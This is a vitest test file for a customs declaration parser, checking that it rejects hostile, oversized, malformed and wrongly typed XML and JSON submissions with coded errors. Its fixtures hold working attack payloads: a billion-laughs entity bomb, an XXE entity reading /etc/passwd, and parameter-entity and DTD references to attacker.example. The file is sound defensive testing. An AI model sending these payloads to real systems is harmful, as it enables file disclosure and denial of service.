import { describe, expect, it } from 'vitest';
import {
  MAX_SUBMISSION_BYTES,
  MalformedSubmissionError,
  UnsupportedSubmissionTypeError,
  XML_LIMITS,
  parseSubmission,
} from '../../../functions/domain/declaration/index.js';
import { MalformedInputError, UnsupportedMediaTypeError } from '../../../functions/domain/errors.js';
import { gbDeclaration, wcoSample } from './fixtures.js';

/**
 * Hostile and broken bodies (issue #4: "malformed JSON/XML, oversized bodies, XML bombs and
 * external-entity payloads are rejected with a coded 4xx"). The payloads are the classic ones
 * of the OWASP XML External Entity Prevention Cheat Sheet and the "billion laughs" of
 * CVE-2003-1564.
 */

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<MetaData><WCODataModelVersionCode>3.6</WCODataModelVersionCode><WCOTypeName>DEC</WCOTypeName><Declaration><FunctionalReferenceID>&lol9;</FunctionalReferenceID></Declaration></MetaData>`;

const XXE_FILE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<MetaData><WCODataModelVersionCode>3.6</WCODataModelVersionCode><WCOTypeName>DEC</WCOTypeName><Declaration><FunctionalReferenceID>&xxe;</FunctionalReferenceID></Declaration></MetaData>`;

const XXE_PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE data [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<MetaData/>`;

const EXTERNAL_DTD = `<?xml version="1.0"?><!DOCTYPE MetaData SYSTEM "http://attacker.example/wco.dtd"><MetaData/>`;

describe('hostile and malformed submissions', () => {
  it.each([
    ['billion laughs (nested entity expansion)', BILLION_LAUGHS],
    ['external entity reading a local file (XXE)', XXE_FILE],
    ['external parameter entity (blind XXE)', XXE_PARAMETER_ENTITY],
    ['external DTD', EXTERNAL_DTD],
    ['a DOCTYPE after the root start, in lower case', `<MetaData><!doctype x></MetaData>`],
  ])('refuses %s before parsing with CWY-XML-002', (_, body) => {
    const error = rejection(() => parseSubmission(body, 'application/xml'));
    expect(error).toBeInstanceOf(MalformedInputError);
    expect(error.toJSON()).toMatchObject({ code: 'CWY-XML-002' });
    expect(error.status).toBe(400);
  });

  it('refuses XML nested deeper than the depth limit with CWY-XML-003', () => {
    const depth = XML_LIMITS.maxDepth + 10;
    const body = `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;
    expect(rejection(() => parseSubmission(body, 'application/xml')).toJSON().code).toBe('CWY-XML-003');
  });

  it('refuses an XML body over the size limit with CWY-INPUT-001, without parsing it', () => {
    const body = `<MetaData>${' '.repeat(MAX_SUBMISSION_BYTES)}</MetaData>`;
    expect(rejection(() => parseSubmission(body, 'application/xml')).toJSON().code).toBe('CWY-INPUT-001');
  });

  it('counts the size in UTF-8 bytes, not characters', () => {
    // 报 is three bytes in UTF-8: a third of the limit in characters is the whole limit in bytes
    const declaration = { ...gbDeclaration(), lrn: '报'.repeat(Math.ceil(MAX_SUBMISSION_BYTES / 3)) };
    expect(rejection(() => parseSubmission(JSON.stringify(declaration), 'application/json')).toJSON().code).toBe('CWY-INPUT-001');
  });

  it('refuses a JSON body over the size limit with CWY-INPUT-001', () => {
    const body = JSON.stringify({ ...gbDeclaration(), padding: 'x'.repeat(MAX_SUBMISSION_BYTES) });
    expect(rejection(() => parseSubmission(body, 'application/json')).toJSON().code).toBe('CWY-INPUT-001');
    expect(rejection(() => parseSubmission(body, 'application/json')).status).toBe(413);
  });

  it.each([
    ['an unclosed element', '<MetaData><Declaration></MetaData>'],
    ['two roots', '<MetaData/><MetaData/>'],
    ['text only', 'not xml at all'],
    ['a truncated sample', wcoSample('TT_IM001a/Step1_TT_IM001a.xml').slice(0, 2000)],
  ])('refuses malformed XML (%s) with CWY-XML-001', (_, body) => {
    expect(rejection(() => parseSubmission(body, 'text/xml')).toJSON().code).toBe('CWY-XML-001');
  });

  it.each([
    ['a truncated object', '{"jurisdiction": "GB",'],
    ['an empty body', ''],
    ['single quotes', "{'lrn': 'x'}"],
  ])('refuses malformed JSON (%s) with CWY-JSON-001', (_, body) => {
    expect(rejection(() => parseSubmission(body, 'application/json')).toJSON().code).toBe('CWY-JSON-001');
  });

  it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', ''])(
    'answers 415 with CWY-MEDIA-001 for content type "%s"',
    (contentType) => {
      const error = rejection(() => parseSubmission(JSON.stringify(gbDeclaration()), contentType));
      expect(error).toBeInstanceOf(UnsupportedMediaTypeError);
      expect(error).toBeInstanceOf(UnsupportedSubmissionTypeError);
      expect(error.status).toBe(415);
      expect(error.toJSON()).toMatchObject({ code: 'CWY-MEDIA-001' });
      expect(error.name).toBe('UnsupportedMediaType');
    },
  );

  it('accepts media types with parameters and in any case (RFC 9110 §8.3.1)', () => {
    expect(parseSubmission(JSON.stringify(gbDeclaration()), 'Application/JSON; charset=utf-8').lrn).toBe('7847767E1WB6');
  });

  it('keeps the stable error name MalformedInput for the workflow and API contract', () => {
    const error = rejection(() => parseSubmission('{', 'application/json'));
    expect(error.name).toBe('MalformedInput');
    expect(error).toBeInstanceOf(MalformedSubmissionError);
  });
});

function rejection(action: () => unknown): MalformedInputError | UnsupportedMediaTypeError {
  try {
    action();
  } catch (error) {
    if (error instanceof MalformedInputError || error instanceof UnsupportedMediaTypeError) return error;
    throw error;
  }
  throw new Error('expected a rejection');
}
